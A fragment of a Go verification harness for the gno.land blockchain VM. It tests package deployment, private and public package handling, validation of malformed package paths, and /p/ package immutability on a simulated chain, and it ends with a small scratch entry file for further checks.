	add("public a", alice, "gno.land/r/verif/aa", map[string]string{"aa.gno": body("aa", "a1"), "aa_test.gno": "package aa\n\nimport \"testing\"\n\nfunc TestX(t *testing.T) {}\n", "README.md": "hello"})
	fmt.Println(ch.Query("vm/qfile", "gno.land/r/verif/aa"))
	fmt.Println(ch.Query("vm/qfile", "gno.land/r/verif/a/gnomod.toml"))
	fmt.Println(ch.Query("vm/qfile", "gno.land/r/verif/a/a_test.gno"))
	add("public a again same", alice, "gno.land/r/verif/aa", map[string]string{"aa.gno": body("aa", "a1")})
	add("public a again other creator", bob, "gno.land/r/verif/aa", map[string]string{"aa.gno": body("aa", "a2")})
	priv := func(path string) string {
		return "module = \"" + path + "\"\ngno = \"0.9\"\nprivate = true\n"
	}
	add("private b (with test file)", alice, "gno.land/r/verif/bb", map[string]string{"gnomod.toml": priv("gno.land/r/verif/bb"), "bb.gno": body("bb", "b1"), "bb_test.gno": "package bb\n", "z_filetest.gno": "package main\n\nfunc main() {}\n"})
	fmt.Println(ch.Query("vm/qfile", "gno.land/r/verif/bb"))
	fmt.Println(ch.Query("vm/qfile", "gno.land/r/verif/b/gnomod.toml"))
	add("private b -> private (no test, other file, bob)", bob, "gno.land/r/verif/bb", map[string]string{"gnomod.toml": priv("gno.land/r/verif/bb"), "bb2.gno": body("bb", "b2")})
	fmt.Println(ch.Query("vm/qfile", "gno.land/r/verif/bb"))
	fmt.Println(ch.Query("vm/qfile", "gno.land/r/verif/b/gnomod.toml"))
	fmt.Println(ch.Eval("gno.land/r/verif/bb", "Marker()"))
	add("private b -> public", alice, "gno.land/r/verif/bb", map[string]string{"bb.gno": body("bb", "b3")})
	fmt.Println(ch.Query("vm/qfile", "gno.land/r/verif/bb"))
	add("public a -> private", alice, "gno.land/r/verif/aa", map[string]string{"gnomod.toml": priv("gno.land/r/verif/aa"), "aa.gno": body("aa", "a3")})
	add("private p pkg", alice, "gno.land/p/verif/cc", map[string]string{"gnomod.toml": priv("gno.land/p/verif/cc"), "cc.gno": "package cc\n"})
	add("test-only", alice, "gno.land/r/verif/tt", map[string]string{"tt_test.gno": "package tt\n"})
	add("filetest-only", alice, "gno.land/r/verif/tt", map[string]string{"tt_filetest.gno": "package main\n\nfunc main() {}\n"})
	fmt.Println(ch.Query("vm/qfile", "gno.land/r/verif/tt"))
	for _, p := range []string{"gno.land/r/verif/aa_test", "gno.land/e/" + alice.Addr.String() + "/run", "gno.land/x/verif/aa", "gno.land/r/Verif/aa", "gno.land/r/verif//aa", "gno.land/r/verif/./aa", "gno.land/r/verif/aa/", "strings", "verif/aa", "example.com/r/verif/aa", "gno.land/r/verif/aa\n", "gno.land/r/verif/" + strings.Repeat("a", 239), "gno.land/r/verif/" + strings.Repeat("a", 240), "gno.land/r/verif/aa#allbutprod", "gno.land/r/ver-if/aa", "gno.land/r/verif/aa/v2", "gno.land/r/verif/internal/aa", "gno.land/r/verif/a-b/aa", "gno.land/r/verif/aa/v2/v3", "gno.land/r/verif/aa_test/bb"} {
		name := p[strings.LastIndex(p, "/")+1:]
		if name == "" || name == "v2" || name == "v3" || strings.ContainsAny(name, "\n#") {
			name = "aa"
		}
		if name == "run" || name == "strings" {
			name = "aa"
		}
		pv := vf.Try(func() { add(fmt.Sprintf("path %q (len %d)", p, len(p)), alice, p, map[string]string{"aa.gno": body(name, "x")}) })
		if pv != nil {
			fmt.Println("   harness panic:", pv)
			ch.EndBlockCommit()
		}
	}
	// ---- /p/ immutability
	fmt.Println(ch.Eval("gno.land/p/verif/mut", "State()"))
	for w := 0; w < 7; w++ {
		show(fmt.Sprintf("mutuser.Poke(%d)", w), ch.OneTx([]std.Msg{chainsim.MsgCall(alice, "gno.land/r/verif/mutuser", "Poke", fmt.Sprint(w))}, fee, alice))
	}
	for _, stmt := range []string{"println(mut.Inc())", "println(mut.Append(1))", "mut.SetM(\"q\", 1)", "println(mut.Obj.Bump())", "mut.Obj.N = 5", "mut.M[\"k\"] = 4", "mut.Counter = 9"} {
		show("run: "+stmt, ch.OneTx([]std.Msg{chainsim.MsgRun(alice, "package main\n\nimport \"gno.land/p/verif/mut\"\n\nfunc main(cur realm) {\n\t"+stmt+"\n}\n")}, fee, alice))
	}
	fmt.Println(ch.Eval("gno.land/p/verif/mut", "State()"))
	fmt.Println(ch.Eval("gno.land/r/verif/mutuser", "Calls"))
	// init-time (StageAdd) writes from OTHER packages
	for i, stmt := range []string{"mut.Obj.Bump()", "mut.Inc()", "mut.BumpObj()", "mut.SetM(\"i\", 1)", "mut.Append(1)"} {
		name := fmt.Sprintf("ini%d", i)
		add("realm init: "+stmt, alice, "gno.land/r/verif/"+name, map[string]string{name + ".gno": "package " + name + "\n\nimport \"gno.land/p/verif/mut\"\n\nfunc init() {\n\t" + stmt + "\n}\n"})
		fmt.Println(ch.Eval("gno.land/p/verif/mut", "State()"))
		name = fmt.Sprintf("pin%d", i)
		add("p pkg init: "+stmt, alice, "gno.land/p/verif/"+name, map[string]string{name + ".gno": "package " + name + "\n\nimport \"gno.land/p/verif/mut\"\n\nfunc init() {\n\t" + stmt + "\n}\n"})
		fmt.Println(ch.Eval("gno.land/p/verif/mut", "State()"))
		name = fmt.Sprintf("var%d", i)
		if i != 3 {
			add("realm var init: "+stmt, alice, "gno.land/r/verif/"+name, map[string]string{name + ".gno": "package " + name + "\n\nimport \"gno.land/p/verif/mut\"\n\nvar X = " + stmt + "\n"})
			fmt.Println(ch.Eval("gno.land/p/verif/mut", "State()"))
		}
		show("run init: "+stmt, ch.OneTx([]std.Msg{chainsim.MsgRun(alice, "package main\n\nimport \"gno.land/p/verif/mut\"\n\nfunc init() {\n\t"+stmt+"\n}\n\nfunc main() {}\n")}, fee, alice))
		fmt.Println(ch.Eval("gno.land/p/verif/mut", "State()"))
	}
	ch.Restart()
	fmt.Println("after restart:")
	fmt.Println(ch.Eval("gno.land/p/verif/mut", "State()"))
	if len(os.Args) > 2 {
		probe3(ch)
	}
}
