// dev-c07: scratch engine for developing C07/C08 (removed when done).
package main

import (
	_ "verifharness/checks/c07"
	_ "verifharness/checks/c08"
	"verifharness/internal/vf"
)

func main() { vf.Main() }
